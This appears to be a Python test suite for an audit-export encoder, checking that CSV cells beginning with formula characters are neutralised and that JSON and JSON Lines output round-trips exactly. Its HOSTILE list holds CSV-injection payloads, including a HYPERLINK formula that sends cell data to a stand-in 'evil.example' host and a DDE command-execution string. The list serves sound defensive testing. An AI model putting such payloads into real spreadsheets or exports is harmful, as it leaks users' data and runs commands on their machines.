"""The exports' one encoder (``lorapool.audit_export``): CSV read back by Python's csv
module, JSON and JSON Lines by orjson; formula cells neutralised, nothing else changed."""

import csv
import io

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lorapool.audit_export import CHUNK_BYTES, FORMULA_START, encode, encode_all

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
cells = st.one_of(
    st.none(),
    st.integers(-(2**53), 2**53),
    st.floats(allow_nan=False, allow_infinity=False),
    st.text(),
    st.sampled_from(HOSTILE),
    st.lists(st.integers(0, 2**31 - 1), max_size=5),
)


def _read_csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode(), newline="")))


@settings(max_examples=200, deadline=None)
@given(st.lists(st.fixed_dictionaries({"a": cells, "b": cells, "text": st.text()}), max_size=8))
def test_csv_cells_read_back_as_written_or_neutralised(rows):
    parsed = _read_csv(encode_all(rows, "csv"))
    assert len(parsed) == len(rows)
    for row, back in zip(rows, parsed):
        for key, value in row.items():
            cell = back[key]
            assert not cell.startswith(FORMULA_START) or isinstance(value, (int, float))
            if value is None:
                assert cell == ""
            elif isinstance(value, str):
                formula = value.startswith(FORMULA_START)
                assert cell == ("'" + value if formula else value)
            elif isinstance(value, list):
                assert orjson.loads(cell) == value
            else:
                assert float(cell) == value  # numbers stay numbers, -1.5 included


@pytest.mark.parametrize("hostile", HOSTILE)
def test_every_formula_prefix_is_neutralised(hostile):
    [row] = _read_csv(encode_all([{"prompt": hostile, "logprob": -1.5}], "csv"))
    assert row == {"prompt": "'" + hostile, "logprob": "-1.5"}


@settings(max_examples=100, deadline=None)
@given(st.lists(st.fixed_dictionaries({"a": cells, "text": st.text()}), max_size=8))
def test_json_and_json_lines_are_exact(rows):
    assert orjson.loads(encode_all(rows, "json")) == rows
    lines = encode_all(rows, "jsonl").split(b"\n")[:-1]  # not splitlines: U+0085 etc.
    assert [orjson.loads(line) for line in lines] == rows


def test_output_comes_in_bounded_chunks():
    rows = ({"i": i, "text": "x" * 500} for i in range(2000))  # ~1 MB, a generator
    for fmt in ("csv", "json", "jsonl"):
        chunks = list(encode(rows if fmt == "csv" else iter(list(rows)), fmt))
        rows = ({"i": i, "text": "x" * 500} for i in range(2000))
        assert max(map(len, chunks)) < CHUNK_BYTES + 4096
    with pytest.raises(ValueError, match="format must be one of"):
        encode_all([], "xml")
